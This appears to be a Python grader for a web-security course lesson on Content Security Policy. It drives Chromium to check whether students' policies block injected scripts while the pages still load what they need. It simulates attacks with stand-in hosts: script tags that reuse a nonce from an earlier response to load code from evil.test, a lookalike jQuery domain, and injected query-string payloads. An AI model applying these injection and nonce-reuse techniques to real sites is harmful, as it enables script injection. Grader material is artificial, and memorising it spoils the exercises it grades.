"""What Chromium does with the answers of lesson 05: what loads, what runs, what leaves."""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from functools import cache
from typing import Any, cast
from urllib.parse import quote, urlsplit

from playwright.sync_api import Page, Response

from helpers import browser, web
from helpers.csp import Policy
from helpers.exercises.eight_policies import INLINE, WISHES, Things, unwanted
from helpers.exercises.named_sites import STRANGERS, attempts
from helpers.exercises.third_party_pages import CIRCLE, OF_CAFE, OF_DESK, injections
from tests.chromium.attempts import attempted, posted
from tests.chromium.clickjacking import on_the_wire

SHOP = "https://shop.test"
WORD = "abcdefghij"
RAN = "document.documentElement.dataset.ran = 'yes'"

Loaded = dict[tuple[str, str], bool]
"""Of a kind and an address, whether the page loads it."""

LOAD = """async things => {
  const refused = new Set()
  document.addEventListener("securitypolicyviolation", seen => {
    if (seen.disposition === "enforce") refused.add(seen.blockedURI)
  })
  const ended = await Promise.all(things.map(([kind, url]) => new Promise(ended => {
  const yes = () => ended(true), no = () => ended(false)
  if (kind === "manifest") return no()
  if (kind === "connect" && url.startsWith("wss:")) {
    new WebSocket(url).onerror = no
    return
  }
  if (kind === "connect") return fetch(url, {mode: "no-cors"}).then(yes, no)
  if (kind === "font") return new FontFace("Lab", `url(${url})`).load().then(yes, no)
  const tags = {style: "link", frame: "iframe", media: "video"}
  const made = document.createElement(tags[kind] ?? kind)
  made.onload = yes
  made.onerror = no
  if (kind === "style") made.rel = "stylesheet"
  if (kind === "object") made.type = "image/png"
  made[{style: "href", object: "data"}[kind] ?? "src"] = url
  document.body.append(made)
})))
  await new Promise(done => setTimeout(done))
  return things.map(([kind, url], at) => ended[at] || (kind !== "manifest" && !refused.has(url)))
}"""
"""Loads each thing, and says of each whether it came, or nothing refused it; all ended by then."""


BY_A_WORD = """async () => {
  const aTask = () => new Promise(done => setTimeout(done))
  const add = fields => document.head.append(
    Object.assign(document.createElement("script"), fields))
  await aTask()  // outside it DevTools lets everything through
  try {
    new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
    return true
  } catch { }
  add({textContent: "window.inline = true"})
  if (window.inline) return false  // then the rules are let in as any script is
  await aTask()
  let refused = false
  document.addEventListener("securitypolicyviolation", seen => {
    refused ||= seen.effectiveDirective === "script-src-elem" && seen.disposition === "enforce"
  })
  add({type: "speculationrules", textContent: "{}"})
  await aTask()
  return !refused
}"""
"""Whether the page compiles WebAssembly, or reads speculation rules that stand in it."""


HAS_A_PORT = re.compile(r"//[^/]+:\d+/")
"""The lab has no site at another port: of this, what no policy refused is let in."""


MANIFEST = """url => {
  document.querySelector("link[rel=manifest]")?.remove()
  document.head.append(Object.assign(document.createElement("link"), {rel: "manifest", href: url}))
}"""


class _Recorder:
    """Every site of a story in one: it notes who was asked for what, and answers for most."""

    def __init__(self, app: Any) -> None:
        self.app = app
        self.asked: set[str] = set()

    def online(self, things: Things) -> None:
        """Put the app online as shop.test, and this as every other site the things name."""
        for _, url in things:
            if (name := urlsplit(url).hostname) and name != "shop.test":
                web.site(name, self)
        web.site("shop.test", self)

    def __call__(self, environ: Any, start_response: Any) -> Any:
        host, path = environ["HTTP_HOST"], environ["PATH_INFO"]
        self.asked.add(f"{host}{path}?{environ['QUERY_STRING']}")
        if host == "shop.test" and not environ["QUERY_STRING"].startswith("loaded-by"):
            return self.app(environ, start_response)
        files = {"svg": ("image/svg+xml", CIRCLE), f"/{WORD}.js": ("text/javascript", f"{WORD}()")}
        kind, body = files.get(path) or files.get(path.rpartition(".")[2]) or ("text/plain", "")
        # Else what one page has loaded, another would not ask for.
        start_response("200 OK", [("Content-Type", kind), ("Cache-Control", "no-store")])
        return [body.encode()]

    def all_asked(self, things: Things) -> bool:
        """Whether a page asked for each of the things by itself."""
        return {url.partition("://")[2] + "?" for _, url in things} <= self.asked

    def loads(self, page: Page, things: Things) -> Loaded:
        """Which of the things the page that is open loads."""
        of_no_site = [each for each in things if "//" not in each[1]]
        allowed = attempted(page, of_no_site)
        sites = [each for each in things if "//" in each[1]]
        mark = f"loaded-by{len(self.asked)}"
        urls = [(k, url if url.startswith("data:") else f"{url}?{mark}") for k, url in sites]
        events = cast(list[bool], page.evaluate(LOAD, urls))
        for kind, url in urls:
            if kind == "manifest":  # a browser asks for it when somebody may install the page
                page.evaluate(MANIFEST, url)
                page.context.new_cdp_session(page).send("Page.getAppManifest")
        return {each: each in allowed for each in of_no_site} | {
            thing: event
            if url.startswith("data:") or HAS_A_PORT.search(url)
            else url.partition("://")[2] in self.asked
            for thing, (_, url), event in zip(sites, urls, events, strict=True)
        }


def _played(story: Callable[..., Any], *arguments: Any) -> Mapping[Any, bool]:
    played = browser.play(story, *arguments)
    assert not played.problem, played.problem
    return cast(Mapping[Any, bool], played.facts)


def eight_policies(fixed: Any) -> dict[str, bool]:
    """Exercise 05-1: the letters whose policy Flask can send."""
    sent = fixed if isinstance(fixed, dict) else {}
    return {
        f"{letter}: {WISHES[letter][0]}": _as_wished(letter, policy)
        for letter, policy in sent.items()
        if isinstance(policy, str) and "\n" not in policy
    }


@cache
def _as_wished(letter: str, policy: str) -> bool:
    """Whether a page with that policy does what was wished for; most answers differ in few."""
    _, wanted, _ = WISHES[letter]
    recorder = _Recorder(_PageOfEachKind(policy))
    refused = unwanted(letter, policy)
    things = tuple(each for each in (*wanted, *refused) if each not in INLINE)
    recorder.online(things)
    allowed = _played(_open_page, recorder, things)
    let_in = any(allowed[each] for each in refused) or allowed[WORDS]
    arrives = allowed[ORIGIN] or not {"font", "connect"} & {kind for kind, _ in wanted}
    return all(allowed[each] for each in wanted) and arrives and not let_in


WORDS = ("", "by a word")
"""What is let in by a word of the policy alone."""
ORIGIN = ("", "its origin")
"""Without which a page asks for its fonts and data, and does not get them."""


class _PageOfEachKind:
    """A page with the policy, and code of each inline kind."""

    BODY = f"""<!doctype html><style>p {{ color: rgb(0, 128, 0) }}</style>
    <p onclick="this.dataset.ran = 'yes'">page</p><script>{RAN}</script>"""

    def __init__(self, policy: str) -> None:
        self.policy = on_the_wire(policy)

    def __call__(self, environ: Any, start_response: Any) -> Any:
        fields = [("Content-Type", "text/html"), ("Content-Security-Policy", self.policy)]
        start_response("200 OK", fields)
        return [self.BODY.encode() + _with_nonces_of(self.policy, RAN).encode()]


def _with_nonces_of(policy: str | None, code: str) -> str:
    """What an attacker writes into a page who has seen the policy of another response."""
    nonces = re.findall("'nonce-([^']*)'", policy or "")
    src = f"https://evil.test/{WORD}.js"
    return "".join(
        f"<script nonce={nonce}>{code}</script><script nonce={nonce} src={src}></script>"
        for nonce in nonces
    )


LOOK_AT_INLINE = """() => {
  const p = document.querySelector("p")
  p.click()
  return {
    "inline-script": document.documentElement.dataset.ran === "yes",
    "event-handler": p.dataset.ran === "yes",
    "inline-style": getComputedStyle(p).color === "rgb(0, 128, 0)",
  }
}"""


def _open_page(page: Page, recorder: _Recorder, things: Things) -> Loaded:
    page.goto(f"{SHOP}/")
    inline = cast(dict[str, bool], page.evaluate(LOOK_AT_INLINE))
    word = {
        WORDS: bool(page.evaluate(BY_A_WORD)),
        ORIGIN: bool(page.evaluate("self.origin !== 'null'")),
    }
    loaded = recorder.loads(page, things)
    return {**loaded, **word, **{(kind, ""): ran for kind, ran in inline.items()}}


NEEDED: Things = (
    ("style", "https://fonts.googleapis.com/css"),
    ("script", "https://code.jquery.com/jquery.js"),
    ("script", f"{SHOP}/cafe.js"),
    ("img", f"{SHOP}/logo.svg"),
    ("img", "https://i.imgur.com/cup.svg"),
    ("frame", "https://www.openstreetmap.org/export/embed.html"),
)
FONT: Things = (("font", "https://fonts.gstatic.com/lab.woff2"),)
FETCHED: Things = (
    ("connect", f"{SHOP}/menu.json"),
    ("connect", "https://api.open-meteo.com/v1/forecast"),
)
LOOKALIKE: Things = (("script", "https://code.jquery.com.evil.test/x.js"),)


def third_parties(app: Any) -> dict[str, bool]:
    """Exercise 05-2: both pages, with every injection at once."""
    recorder = _Recorder(app)
    recorder.online((*NEEDED, *FONT, *FETCHED, *STRANGERS, *LOOKALIKE))
    return dict(_played(_open_cafe, recorder))


def _open_cafe(page: Page, recorder: _Recorder) -> dict[str, bool]:
    loads: dict[str | None, Loaded] = {}
    seen = []
    let_in = False
    for path in ("/?name=", "/"):
        policy = _open_injected(page, path)
        seen.append(page.evaluate(LOOK))
        if policy not in loads:  # the same policy lets the same things in
            tried = _tried(recorder, policy, OF_CAFE)
            loads[policy] = recorder.loads(page, (*FONT, *FETCHED, *tried))
            let_in |= any(loads[policy][each] for each in tried) or page.evaluate(BY_A_WORD)
    let_in |= _lets_in(page, recorder, posted(page, f"{SHOP}/"), OF_CAFE, [*loads])
    home = next(iter(loads.values()))
    known = _known_nonce_runs(page, "/?name=", policy)
    led = _led_there(page, recorder, "/?name=")
    let_in |= led["let in"]
    return {
        "No injected script runs": not any(look["ran"] for look in seen)
        and not known
        and not led["ran"],
        "Nothing is let in that the pages do not need": not let_in,
        "Every part of both pages loads": recorder.all_asked(NEEDED)
        and all(look["drawn"] for look in seen),
        "The stylesheet gets its font": all(home[thing] for thing in FONT),
        "The script gets the menu and the weather": all(home[thing] for thing in FETCHED),
    }


BROKEN = f"""document.addEventListener("error", ({{target}}) => {{
  window.broken ||= target.localName === "script" && target.src.startsWith("{SHOP}/")
}}, true)"""
"""Notes whether a script of the page's own site did not run."""


LOOK = """() => ({
  ran: document.documentElement.dataset.ran === "yes",
  drawn: !window.broken && self.origin !== "null" && !!open("about:blank")
    && document.images.length > 0 && [...document.images].every(image => image.naturalWidth > 0),
})"""


def _open_injected(page: Page, path: str) -> str | None:
    """Open a page with every injection in it; the policies it came with."""
    page.add_init_script(f"window.{WORD} = () => {{ {RAN} }}\n{BROKEN}")
    response = page.goto(f"{SHOP}{path}{quote(''.join(injections(WORD)))}")
    return response.header_value("Content-Security-Policy") if response else None


FROM_A_STRANGER = "evil.test/image?led-there"
LOAD_IT = f"""() => new Promise(ended => Object.assign(new Image(),
    {{onload: ended, onerror: ended, src: "https://{FROM_A_STRANGER}"}})).then(() => null)"""


def _led_there(page: Page, recorder: _Recorder, path: str) -> dict[str, bool]:
    """What an injected script and a stranger's image do, by http, by a link and in a frame."""
    address = f"shop.test{path}{quote(''.join(injections(WORD)))}"
    ran = False
    for scheme, tag in ("http", "a"), ("https", "a"), ("https", "iframe"):
        page.goto("https://evil.test/")
        if tag == "a":
            page.evaluate("url => { location = url }", f"{scheme}://{address}")
            page.wait_for_url("*://shop.test/**")
        else:
            page.set_content(f'<iframe src="https://{address}"></iframe>')
        shown = page.frames[0] if tag == "a" else page.frames[0].child_frames[0]
        if urlsplit(shown.url).hostname == "shop.test":  # not the error of a refused frame
            ran |= shown.evaluate("document.documentElement.dataset.ran === 'yes'")
            shown.evaluate(LOAD_IT)
    return {"ran": ran, "let in": FROM_A_STRANGER in recorder.asked}


def _known_nonce_runs(page: Page, path: str, policy: str | None) -> bool:
    """Whether a script runs that has the nonce of an earlier response."""
    if script := _with_nonces_of(policy, f"{WORD}()"):
        page.goto(f"{SHOP}{path}{quote(script)}")
    return bool(script and page.evaluate(LOOK)["ran"])


def _tried(recorder: _Recorder, policy: str | None, widest: Policy) -> Things:
    """What an attacker would try who reads the policy; its sites are put online."""
    tried = tuple(attempts(Policy(policy or ""), widest, f"{SHOP}/"))
    recorder.online(tried)
    return tried


TICKETS: Things = (("connect", f"{SHOP}/tickets.json"),)
CHAT: Things = (("connect", "wss://chat.test/room"),)


def two_policies(app: Any) -> dict[str, bool]:
    """Exercise 05-3: the page, with every injection at once."""
    recorder = _Recorder(app)
    recorder.online((*STRANGERS, *CHAT, *LOOKALIKE))
    return dict(_played(_open_desk, recorder))


def _open_desk(page: Page, recorder: _Recorder) -> dict[str, bool]:
    policy = _open_injected(page, "/?q=")
    look = page.evaluate(LOOK)
    tried = _tried(recorder, policy, OF_DESK)
    loads = recorder.loads(page, (*TICKETS, *CHAT, *tried))
    script: Things = (("script", f"{SHOP}/desk.js"),)
    known = _known_nonce_runs(page, "/?q=", policy)
    let_in = any(map(loads.get, tried)) or page.evaluate(BY_A_WORD)
    for go, path in ((Page.goto, "/no-such-page"), (posted, "/")):
        let_in |= _lets_in(page, recorder, go(page, f"{SHOP}{path}"), OF_DESK, [policy])
    led = _led_there(page, recorder, "/?q=")
    let_in |= led["let in"]
    return {
        "No injected script runs": not look["ran"] and not known and not led["ran"],
        "Nothing is let in that the page does not need": not let_in,
        "Every part of the page loads": look["drawn"] and recorder.all_asked(script),
        "The script gets the tickets": any(map(loads.get, TICKETS)),
        "The script reaches the chat": any(map(loads.get, CHAT)),
    }


def _lets_in(
    page: Page, recorder: _Recorder, came: Response | None, widest: Policy, known: list[str | None]
) -> bool:
    """Whether the page that came, an error, lets more in, where its policy is not known yet."""
    policy = came.header_value("Content-Security-Policy") if came else None
    if policy in known:
        return False
    tried = _tried(recorder, policy, widest)
    return any(map(recorder.loads(page, tried).get, tried))


SEEN: dict[str, Callable[[Any], dict[str, bool]]] = {
    "05-1": eight_policies,
    "05-2": third_parties,
    "05-3": two_policies,
}
